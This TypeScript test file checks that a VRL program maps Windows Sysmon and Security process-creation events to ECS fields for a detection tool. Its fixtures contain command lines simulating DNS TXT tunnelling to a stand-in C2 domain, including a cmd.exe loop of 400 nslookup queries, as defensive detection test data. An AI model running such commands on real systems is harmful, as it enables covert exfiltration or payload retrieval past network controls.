import { readFileSync } from 'node:fs'
import { check, execute, formatDiagnostic } from '@bpinternal/verel'
import t from 'tap'
import { Event } from '../../src/core/event.js'
import { loadRules } from '../../src/rules/load.js'

const program = readFileSync('examples/vector/ecs.vrl', 'utf8')
const samples: Record<string, unknown>[] = readFileSync('test/fixtures/wire/vector/windows_event_log-samples.ndjson', 'utf8')
  .trimEnd().split('\n').map((line) => JSON.parse(line))
const [sysmon, sysmonPowershell, security, securityWithoutLine] = samples

t.test('the program compiles without a word', async (t) => {
  const { errors, warnings } = check(program)

  t.same([...errors, ...warnings].map(formatDiagnostic), [])
})

t.test('a Sysmon process start becomes ECS', async (t) => {
  t.strictSame(ecsOf(sysmon), {
    '@timestamp': '2026-08-20T14:03:11.118Z',
    message: sysmon?.message,
    event: {
      kind: 'event',
      category: ['process'],
      type: ['start'],
      action: 'Process creation',
      code: '1',
      provider: 'Microsoft-Windows-Sysmon',
      module: 'sysmon'
    },
    host: { name: 'WS-0417.corp.example', os: { type: 'windows' } },
    log: { level: 'information' },
    process: {
      entity_id: '{5F0C2D11-9B3F-68A6-4F1C-000000000C00}',
      pid: 7412,
      name: 'nslookup.exe',
      executable: 'C:\\Windows\\System32\\nslookup.exe',
      command_line: 'nslookup  -querytype=TXT 0001.4d5a9000.c2.example.net 198.51.100.53',
      args: ['nslookup', '-querytype=TXT', '0001.4d5a9000.c2.example.net', '198.51.100.53'],
      args_count: 4,
      working_directory: 'C:\\Users\\alice\\',
      hash: {
        md5: '0a1b2c3d4e5f60718293a4b5c6d7e8f9',
        sha1: '3d6f1c0a9b7e5d2844f0c1b2a3958677e1d0c4ab',
        sha256: '9f2c3a4b5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d5e6f708'
      },
      pe: {
        original_file_name: 'nslookup.exe',
        company: 'Microsoft Corporation',
        description: 'nslookup',
        file_version: '10.0.22621.1 (WinBuild.160101.0800)',
        product: 'Microsoft® Windows® Operating System',
        imphash: '5b7f0e1d2c3b4a596877869504132231'
      },
      parent: {
        entity_id: '{5F0C2D11-9B20-68A6-431C-000000000C00}',
        pid: 5120,
        name: 'cmd.exe',
        executable: 'C:\\Windows\\System32\\cmd.exe',
        command_line: '"C:\\Windows\\system32\\cmd.exe" /c for /L %i in (1,1,400) do nslookup -querytype=TXT %i.c2.example.net',
        args: ['C:\\Windows\\system32\\cmd.exe', '/c', 'for', '/L', '%i', 'in', '(1,1,400)', 'do', 'nslookup', '-querytype=TXT', '%i.c2.example.net']
      }
    },
    user: { domain: 'CORP', name: 'alice' },
    winlog: {
      channel: 'Microsoft-Windows-Sysmon/Operational',
      computer_name: 'WS-0417.corp.example',
      event_id: '1',
      provider_name: 'Microsoft-Windows-Sysmon',
      record_id: '184021'
    }
  })
})

const securityEcs = {
  '@timestamp': '2026-08-20T14:03:11.120001500Z',
  message: security?.message,
  event: {
    kind: 'event',
    category: ['process'],
    type: ['start'],
    action: 'created-process',
    outcome: 'success',
    code: '4688',
    provider: 'Microsoft-Windows-Security-Auditing',
    module: 'security'
  },
  host: { name: 'WS-0417.corp.example', os: { type: 'windows' } },
  log: { level: 'information' },
  process: {
    pid: 7412,
    name: 'nslookup.exe',
    executable: 'C:\\Windows\\System32\\nslookup.exe',
    command_line: 'nslookup  -querytype=TXT 0001.4d5a9000.c2.example.net 198.51.100.53',
    args: ['nslookup', '-querytype=TXT', '0001.4d5a9000.c2.example.net', '198.51.100.53'],
    args_count: 4,
    parent: { pid: 5120, name: 'cmd.exe', executable: 'C:\\Windows\\System32\\cmd.exe' }
  },
  user: { domain: 'CORP', name: 'alice', id: 'S-1-5-21-1004336348-1177238915-682003330-1147' },
  winlog: {
    channel: 'Security',
    computer_name: 'WS-0417.corp.example',
    event_id: '4688',
    provider_name: 'Microsoft-Windows-Security-Auditing',
    record_id: '9913377',
    logon: { id: '0xc1f9c' }
  }
}

t.test('a Security process start becomes ECS, its hexadecimal ids become numbers', async (t) => {
  t.strictSame(ecsOf(security), securityEcs)
})

t.test('a Security process start without its command line has no arguments', async (t) => {
  const { command_line: line, args, args_count: count, ...process } = securityEcs.process

  t.strictSame(ecsOf(securityWithoutLine), {
    ...securityEcs,
    '@timestamp': '2026-08-20T14:03:12Z',
    message: securityWithoutLine?.message,
    process: { ...process, pid: 7640 },
    winlog: { ...securityEcs.winlog, record_id: '9913378' }
  })
})

t.test('a quoted argument is one argument without its quotes', async (t) => {
  t.match(ecsOf(sysmonPowershell), {
    process: { args: ['powershell.exe', '-NoProfile', '-Command', 'Resolve-DnsName -Type TXT \'0002.example.net\''], args_count: 4 }
  })
  t.match(ecsOf(withData(sysmon, { CommandLine: 'nslookup -q="TXT" "a b' })), { process: { args: ['nslookup', '-q=TXT', 'a b'] } })
})

t.test('the account that a process runs as is user.effective when it is another one', async (t) => {
  const changed = withData(security, { TargetUserName: 'svc', TargetDomainName: 'CORP', TargetUserSid: 'S-1-5-21-1-2-3-4' })

  t.match(ecsOf(changed), { user: { name: 'alice', effective: { domain: 'CORP', name: 'svc', id: 'S-1-5-21-1-2-3-4' } } })
})

t.test('an account that is not DOMAIN\\name is left out', async (t) => {
  t.equal(ecsOf(withData(sysmon, { User: 'alice' })).user, undefined)
})

const untouched: [string, Record<string, unknown>][] = [
  ['of another event', { ...security, event_id: 4624 }],
  ['of another provider with the same number', { ...sysmon, provider_name: 'Other' }],
  ['of another kind', { message: 'hello', host: 'a' }]
]
for (const [title, record] of untouched) {
  t.test(`a record ${title} passes unchanged`, async (t) => {
    t.strictSame(ecsOf(record), record)
  })
}

t.test('a process start without data is ECS as far as it goes', async (t) => {
  const { event_data: data, timestamp, ...rest } = sysmon as Record<string, unknown>

  t.strictSame(Object.keys(ecsOf(rest)).sort(), ['event', 'host', 'log', 'message', 'winlog'])
})

t.test('the built-in rule meets the lookups that name a record type, from both sources', async (t) => {
  const [rule] = loadRules(['builtin'])

  t.same(samples.map((sample) => rule?.predicate(new Event(ecsOf(sample), { arrival: 0 }))), [true, false, true, false])
})

t.test('the fields are those under which Tripline reads the raw records', async (t) => {
  for (const sample of samples) {
    const raw = new Event(sample, { arrival: 0 })
    const mapped = new Event(ecsOf(sample), { arrival: 0 })

    // The program keeps more digits of the time, and tells the module, as Winlogbeat does.
    for (const name of mapped.names().filter((name) => !['@timestamp', 'event.module'].includes(name))) {
      t.same(mapped.values(name), raw.values(name), name)
    }
    t.equal(mapped.time(), raw.time())
  }
})

function ecsOf (record: object | undefined): Record<string, unknown> {
  return execute(program, record).event
}

function withData (record: Record<string, unknown> | undefined, data: object): object {
  return { ...record, event_data: { ...record?.event_data as object, ...data } }
}
